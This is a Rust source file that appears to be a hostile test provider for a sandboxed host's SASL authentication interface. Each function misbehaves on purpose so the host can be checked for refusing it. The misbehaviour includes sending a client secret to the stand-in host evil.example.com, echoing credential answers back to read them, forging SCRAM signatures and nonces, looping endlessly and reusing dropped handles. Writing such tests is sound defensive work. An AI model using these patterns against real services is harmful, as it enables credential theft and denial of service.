//! Misdeeds in authentication exchanges. The provider plays the server itself: what it may not read
//! it sends to a server that sends everything back.

use std::hint::black_box;
use std::mem::forget;

use crate::bindings::portolan::host::net;
use crate::bindings::portolan::host::parts;
use crate::bindings::portolan::host::sasl::{self, Answer, Exchange, Property};
use crate::bindings::portolan::host::steps::{self, Outcome};
use crate::bindings::portolan::types::types::{Failure, PlanEntry};
use crate::dialling::{CLEAR, ENCRYPTED, read_all, step};

fn text(name: &str, text: &str) -> Property {
    Property::Text((name.to_owned(), text.to_owned()))
}

fn secret(name: &str, secret: &str) -> Property {
    Property::Secret((name.to_owned(), secret.to_owned()))
}

fn credentials() -> Vec<Property> {
    vec![text("user", "user"), secret("password", "key")]
}

fn start(mechanism: &str, properties: &[Property]) -> Option<Exchange> {
    step("start", || sasl::start(mechanism, properties, None))
}

/// An answer as the server sees it.
fn echoed(answer: Answer) -> Result<String, Failure> {
    let (Answer::Message(part) | Answer::Last(part)) = answer else {
        return Err(crate::refusal("there is no answer"));
    };
    let connection = net::connect(CLEAR)?;
    connection.write(vec![part])?;
    connection.close()?;
    let echo = read_all(&connection)?;
    Ok(String::from_utf8_lossy(&echo).into_owned())
}

/// A proof of the password that has begun, and the client's nonce.
fn begun() -> Option<(Exchange, String)> {
    let exchange = start("SCRAM-SHA-256", &credentials())?;
    let message = step("begin", || exchange.step(&[]).and_then(echoed))?;
    let nonce = message.split_once(",r=").map_or("", |(_, nonce)| nonce);
    Some((exchange, nonce.to_owned()))
}

pub(crate) fn authenticates_in_a_way_that_nobody_knows(_: &[PlanEntry]) {
    start("KERBEROS_V4", &credentials());
}

pub(crate) fn gives_17_properties(_: &[PlanEntry]) {
    start("PLAIN", &vec![text("user", "user"); 17]);
}

pub(crate) fn gives_a_property_twice(_: &[PlanEntry]) {
    start("PLAIN", &[credentials(), credentials()].concat());
}

pub(crate) fn gives_a_property_of_a_later_contract(_: &[PlanEntry]) {
    let later = Property::Other(("ticket".to_owned(), "t".to_owned()));
    start("PLAIN", &[later]);
}

pub(crate) fn authenticates_with_a_secret_that_is_not_planned(_: &[PlanEntry]) {
    start(
        "PLAIN",
        &[text("user", "user"), secret("password", "other")],
    );
}

pub(crate) fn binds_to_a_connection_without_tls(_: &[PlanEntry]) {
    let Some(connection) = step("dial", || net::connect(ENCRYPTED)) else {
        return;
    };
    step("start", || {
        sasl::start("SCRAM-SHA-256-PLUS", &credentials(), Some(&connection))
    });
}

pub(crate) fn signs_with_what_the_host_lends(_: &[PlanEntry]) {
    let Some(connection) = step("dial", || net::connect(CLEAR)) else {
        return;
    };
    step("start", || {
        let region = [text("region", "eu-central-1")];
        sasl::start("AWS_MSK_IAM", &region, Some(&connection))
    });
}

pub(crate) fn sends_a_clients_secret_to_another_service(_: &[PlanEntry]) {
    start(
        "OAUTHBEARER",
        &[
            text("token-url", "https://evil.example.com/token"),
            text("client-id", "client"),
            secret("client-secret", "key"),
        ],
    );
}

pub(crate) fn begins_exchanges_without_end(_: &[PlanEntry]) {
    while let Ok(exchange) = sasl::start("PLAIN", &credentials(), None) {
        drop(black_box(exchange));
    }
}

pub(crate) fn passes_on_a_challenge_of_65_kib(_: &[PlanEntry]) {
    if let Some((exchange, _)) = begun() {
        step("answer", || exchange.step(&vec![b'a'; 65 << 10]).map(drop));
    }
}

pub(crate) fn passes_on_what_is_no_challenge(_: &[PlanEntry]) {
    for challenge in ["", "r", "r=a,", "r=a,s", "e", "\u{0},\u{0}"] {
        if let Some((exchange, _)) = begun() {
            step("answer", || exchange.step(challenge.as_bytes()).map(drop));
        }
    }
}

pub(crate) fn asks_for_endless_iterations(_: &[PlanEntry]) {
    if let Some((exchange, nonce)) = begun() {
        let challenge = format!("r={nonce}x,s=YQ==,i=4294967295");
        step("answer", || exchange.step(challenge.as_bytes()).map(drop));
    }
}

pub(crate) fn passes_on_the_nonce_of_another_exchange(_: &[PlanEntry]) {
    let (Some((exchange, _)), Some((_other, nonce))) = (begun(), begun()) else {
        return;
    };
    let challenge = format!("r={nonce}x,s=YQ==,i=4096");
    step("answer", || exchange.step(challenge.as_bytes()).map(drop));
}

/// The server does not know the password, and says that it does. Whatever failed, every later step
/// fails likewise.
pub(crate) fn passes_on_a_forged_signature(_: &[PlanEntry]) {
    let Some((exchange, nonce)) = begun() else {
        return;
    };
    let challenge = format!("r={nonce}x,s=YQ==,i=4096");
    step("answer", || exchange.step(challenge.as_bytes()).map(drop));
    step("answer", || {
        let signature = "v=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
        exchange.step(signature.as_bytes()).map(drop)
    });
    step("answer", || exchange.step(&[]).map(drop));
}

pub(crate) fn goes_on_after_the_end(_: &[PlanEntry]) {
    if let Some(exchange) = start("PLAIN", &credentials()) {
        step("answer", || exchange.step(&[]).map(drop));
        step("answer", || exchange.step(&[]).map(drop));
    }
}

/// What its own server sends back, it sees; what it tells of it, nobody else does.
pub(crate) fn tells_an_echoed_answer(_: &[PlanEntry]) {
    for mechanism in ["PLAIN", "POSTGRES-MD5"] {
        let Some(exchange) = start(mechanism, &credentials()) else {
            return;
        };
        let salt: &[u8] = match mechanism {
            "PLAIN" => &[],
            _ => b"salt",
        };
        let echoed = exchange.step(salt).and_then(echoed);
        steps::begin("tell");
        let echo = echoed.unwrap_or_else(|failure| failure.message);
        let echo = echo.trim_start_matches("\0user\0");
        steps::end(&Outcome::Ok, &[("echo".to_owned(), echo.to_owned())]);
    }
}

/// An answer is a part like others: it has a length, and is not sent before TLS.
pub(crate) fn writes_an_answer_before_tls(_: &[PlanEntry]) {
    let Some(exchange) = start("PLAIN", &credentials()) else {
        return;
    };
    let Some(connection) = step("dial", || net::connect(ENCRYPTED)) else {
        return;
    };
    step("write", || match exchange.step(&[])? {
        Answer::Message(part) | Answer::Last(part) => connection.write(vec![part]),
        _ => Err(crate::refusal("there is no answer")),
    });
}

pub(crate) fn uses_an_exchange_that_it_dropped(_: &[PlanEntry]) {
    if let Some(exchange) = start("PLAIN", &credentials()) {
        let number = exchange.handle();
        drop(exchange);
        // SAFETY: the number is the host's to judge.
        let exchange = unsafe { Exchange::from_handle(number) };
        forget(exchange.step(&[]));
        forget(exchange);
    }
}

pub(crate) fn uses_an_exchange_as_a_secret(_: &[PlanEntry]) {
    if let Some(exchange) = start("PLAIN", &credentials()) {
        // SAFETY: the number is the host's to judge.
        let opaque = unsafe { parts::Opaque::from_handle(exchange.handle()) };
        black_box(opaque.length());
        forget((opaque, exchange));
    }
}
